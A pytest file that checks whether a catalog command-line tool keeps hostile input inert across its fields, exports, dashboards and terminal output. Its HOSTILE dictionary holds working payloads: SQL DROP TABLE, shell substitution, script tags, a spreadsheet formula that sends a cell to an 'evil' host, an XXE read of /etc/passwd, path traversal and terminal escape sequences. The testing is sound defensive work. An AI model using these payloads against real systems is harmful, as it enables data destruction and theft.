"""Hostile text in every field: it stays a text, or is refused in words; it never runs, moves a cursor or draws."""

import csv
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from sqlalchemy import select

from ct_assets.metadata import describe
from ctcore.catalog.event_log import check_chain
from ctcore.catalog.tables import event
from ctcore.intake.raw_files import look
from ctcore.integrity.catalog_check import disagreements
from ctcore.project import Project
from ctcore.staleness.accept import KINDS, accept, checked_reason, propose
from tests.helpers.kit import STEPS, TOML, again, assay, make, make_all, make_project
from tests.helpers.shell import Said, ct, on_a_terminal

# Without NUL, which no process can be given; in a cell, tests/sheet/test_intake_fuzz.py has it
HOSTILE = {
    "sql": "x'); DROP TABLE entity; --",
    "shell": "$(touch pwned); `touch pwned` | touch pwned",
    "html": '"><script>alert(1)</script><img src=x onerror=alert(1)>',
    "formula": '=HYPERLINK("http://evil/?"&A1;"x")',
    "formula after a blank": "\t=1+1",
    "escape": "\x1b[2J\x1b]0;pwned\x07red",
    "path": "../../../etc/passwd",
    "format": "%s%n{0.__class__}%(x)s",
    "right to left": "\u202egpj.exe",
    "template": "{{ 7 * 7 }}{% raw %}",
    "xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "markdown": "![x](http://evil/x.png) [x](javascript:alert(1))",
    "line": "one\ntwo\r\nthree",
    "surrogate": "a\ud800b",
}
ALL = frozenset(KINDS)


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Project:
    """Two patients, three assays, all made; the reads of A1 are others by now."""
    project = make_project(tmp_path_factory.mktemp("injection") / "toy")
    make_all(project)
    (project.root / "reads/A1.txt").write_text("reads of A_\n")
    look(project)
    return project


# Every field of the command line that takes a text: what to say, with {} for the text
FIELDS: dict[str, tuple[str, ...]] = {
    "patient": ("register", "patient", "{}", "--set", "sex=F"),
    "specimen": ("register", "specimen", "{}", "--parent", "P1"),
    "parent": ("register", "assay", "AX", "--parent", "{}"),
    "value": ("register", "patient", "P1", "--set", "age={}"),
    "text value": ("register", "specimen", "S1", "--set", "site={}", "--update", "specimen.site"),
    "column": ("register", "patient", "P1", "--set", "{}=1"),
    "sheet": ("register", "{}"),
    "map": ("register", "sheet.csv", "--map", "{}=patient_id"),
    "update": ("register", "sheet.csv", "--update", "{}"),
    "node": ("why", "{}"),
    "path": ("path", "counted/{}"),
    "show": ("show", "{}"),
    "selection": ("plan", "--select", "{}"),
    "trace": ("trace", "{}"),
    "accept reason": ("accept", "counted/A1", "--reason", "{}"),
    "accept kinds": ("accept", "counted/A1", "--reason", "x", "--only", "{}"),
    "qc who": ("qc", "add", "assay/{}", "qc_fail", "--reason", "x"),
    "qc kind": ("qc", "add", "assay/A1", "{}", "--reason", "x"),
    "qc reason": ("qc", "add", "patient/P1", "qc_warn", "--reason", "{}"),
    "qc source": ("qc", "add", "specimen/S1", "qc_warn", "--reason", "x", "--source", "{}"),
    "qc step": ("qc", "add", "assay/A1", "qc_fail", "--reason", "x", "--analysis", "{}"),
    "qc batch": ("qc", "add", "--where", "assay.library={}", "qc_warn", "--reason", "x"),
    "qc sheet": ("qc", "add", "--from", "{}"),
    "qc resolve": ("qc", "resolve", "patient/P1", "--reason", "{}"),
    "consent who": ("consent", "set", "{}", "full"),
    "consent form": ("consent", "set", "P1", "full", "--form", "{}"),
    "consent reason": ("consent", "set", "P1", "full", "--reason", "{}"),
    "consent use": ("consent", "set", "P1", "limited", "--use", "{}"),
    "consent date": ("consent", "set", "P1", "full", "--date", "{}"),
    "why shown": ("query", "SELECT 1", "--excluded", "--reason", "{} because"),
    "sql": ("query", "{}"),
    "sql value": ("query", "SELECT * FROM patients WHERE patient_id = '{}'"),
    "excluded": ("show", "counted/A1", "--excluded", "--reason", "{}"),
    "export table": ("export", "out.csv", "--table", "{}"),
    "cohort": ("cohort", "{}"),
    "pairing": ("cohort", "--pairing", "{}"),
    "reference": ("reference", "index", "{}"),
    "profile": ("plan", "--profile", "{}"),
}


def shown_safely(said: Said) -> None:
    """Nothing that moves the cursor or the direction of the text, in what people see."""
    for text in (said.out, said.err):
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\x80-\x9f\u202a-\u202e\u2066-\u2069]", text), repr(text)


@pytest.mark.parametrize("field", FIELDS)
def test_in_any_field_it_stays_a_text_or_is_refused_in_words(
    made: Project, field: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(made.root)
    for name, text in HOSTILE.items():
        words = [word.replace("{}", text) for word in FIELDS[field]]
        said = ct("-C", made.root, *words)
        assert said.code in (0, 1, 2, 3), (name, said)
        assert said.code in (0, 3) or said.err.startswith(("ct: ", "Usage: ", "Error: ")), (name, said)
        shown_safely(said)
    assert not list(made.root.rglob("pwned")) and not (made.root.parent / "pwned").exists()


# What was taken, wherever it is shown


class Elements(HTMLParser):
    """The elements and attributes of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.names: set[str] = set()
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.names |= {name for name, _ in attrs}


FAILS = "    n = len("
SAYS = """\
    if call.entity == "A3":
        raise ValueError(HOSTILE)
    n = len("""


@pytest.fixture(scope="module")
def told(tmp_path_factory: pytest.TempPathFactory) -> Project:
    """A project in which every field that takes a text has all of them that it takes."""
    printable = {name: text for name, text in HOSTILE.items() if text.isprintable()}
    steps = f"HOSTILE = {''.join(HOSTILE.values())!r}\n" + STEPS.replace(FAILS, SAYS)
    steps = steps.replace('{"letters": n}', '{"letters": n, "qc": "warn", "qc_reason": %r, "said": HOSTILE[:-3]}')
    steps = steps.replace("%r", repr(" ".join(printable.values())), 1)
    rows = [assay("P1", f"S{n}", f"A{n}", sex="F", library=text) for n, text in enumerate(printable.values(), 1)]
    root = tmp_path_factory.mktemp("told") / "toy"
    project = make_project(
        root, rows, steps, TOML.replace('id = "toy"', f'id = "toy"\nname = {json.dumps(" ".join(printable.values()))}')
    )
    make_all(project)
    (root / "reads/A1.txt").write_text("reads of A_\n")
    look(project)
    for number, text in enumerate(printable.values(), 1):
        keys = {"counted": {"A1"}}
        if number == 1:
            accept(project, propose(project, keys, ALL), checked_reason(" ".join(printable.values())))
        assert ct("-C", root, "qc", "add", f"assay/A{number}", "batch_effect_flagged", "--reason", text).code == 0
        assert ct("-C", root, "consent", "set", "P1", "full", "--form", text, "--reason", text).code == 0
    return again(project)


READING = (
    ("status",),
    ("stale", "--why"),
    ("why", "counted/A3"),
    ("why", "counted/A1"),
    ("show", "counted/A2"),
    ("accept", "--list"),
    ("qc", "list"),
    ("qc", "history"),
    ("consent", "list"),
    ("consent", "history"),
    ("trace", "counted/A1"),
    ("trace", "counted/A1", "--dot"),
    ("trace", "counted/A1", "--mermaid"),
    ("cohort",),
    ("query", "SELECT * FROM assays"),
    ("query", "SELECT * FROM results"),
    ("qc", "history", "--json"),
    ("why", "counted/A3", "--json"),
    ("query", "SELECT * FROM results", "--json"),
)


@pytest.mark.parametrize("words", READING, ids=" ".join)
def test_what_is_shown_moves_no_cursor_and_turns_no_text(told: Project, words: tuple[str, ...]) -> None:
    said = ct("-C", told.root, *words)
    assert said.code in (0, 3), said
    shown_safely(said)


def test_a_failed_tool_draws_nothing_on_a_terminal(told: Project) -> None:
    code, shown = on_a_terminal("-C", told.root, "why", "counted/A3")
    assert code == 3 and "pwned" in shown and "\x1b]0" not in shown and "\x1b[2J" not in shown


def test_a_page_has_no_element_and_no_address_of_theirs(told: Project, tmp_path: Path) -> None:
    assert ct("-C", told.root, "dashboard", tmp_path / "page.html").code == 0
    page = Elements((tmp_path / "page.html").read_text())
    assert not page.tags & {"script", "img", "x", "iframe", "object"} and "onerror" not in page.names


@pytest.mark.parametrize("ending", ["csv", "tsv"])
def test_an_exported_cell_is_no_formula_and_loses_nothing(told: Project, tmp_path: Path, ending: str) -> None:
    assert ct("-C", told.root, "export", tmp_path / "all", "--format", ending).code == 0
    cells: list[str] = []
    for path in (tmp_path / "all").iterdir():
        with path.open(newline="") as stream:
            cells += [cell for row in csv.reader(stream, delimiter="\t" if ending == "tsv" else ",") for cell in row]
    assert not [cell for cell in cells if cell.lstrip()[:1] in ("=", "@")]
    assert f"'{HOSTILE['formula']}" in cells and HOSTILE["sql"] in cells


def test_dagster_is_given_no_picture_and_no_link_of_theirs(told: Project) -> None:
    outcomes = make(told, "merged", "S1")  # built from what was accepted
    (metadata,) = describe(told, told.steps["merged"], outcomes).values()
    assert "accepted" in metadata
    drawn = [str(getattr(value, "md_str", "")) for value in metadata.values()]
    assert any("pwned" in text for text in drawn)
    assert not [text for text in drawn if re.search(r"(?<!\\)(!?\[[^\]]*\]\(|<(script|img))", text)], drawn


def test_nothing_ran_and_nothing_was_lost(told: Project) -> None:
    assert disagreements(told) == []
    with told.catalog.read() as connection:
        rows = [dict(row) for row in connection.execute(select(event).order_by(event.c.seq)).mappings()]
    assert check_chain(iter(rows)) == []
    assert not list(told.root.parent.rglob("pwned"))


@pytest.mark.parametrize("name", ["\x1b[31mred", "a\nb", "  ", "\u202egpj"])
def test_an_actor_is_one_line_of_text(made: Project, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    monkeypatch.setenv("CT_ACTOR", name)
    said = ct("-C", made.root, "qc", "add", "assay/A2", "qc_warn", "--reason", "x")
    assert said.code == 1 and "CT_ACTOR" in said.err
    shown_safely(said)


def test_a_hostile_sheet_name_does_no_harm_in_the_history(made: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(made.root)
    place = made.root / "\x1b[2J\u202e;$(touch pwned)<script>.csv"
    place.write_text("level,id,kind,reason\nassay,A3,qc_warn,dark\n")
    assert ct("-C", made.root, "qc", "add", "--from", place.name).code == 0
    for words in (("qc", "history"), ("qc", "list"), ("qc", "history", "--json")):
        shown_safely(ct("-C", made.root, *words))
    assert ct("-C", made.root, "verify", "--quick").code == 0
